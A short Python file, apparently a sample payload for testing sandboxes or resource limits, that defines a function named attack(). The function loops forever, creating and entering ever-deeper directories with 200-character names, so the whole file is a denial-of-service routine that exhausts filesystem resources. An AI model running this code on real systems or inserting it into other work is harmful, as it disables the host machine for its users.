"""Folders within folders."""
# ruff: noqa

import os


def attack():
    while True:
        os.mkdir("d" * 200)
        os.chdir("d" * 200)
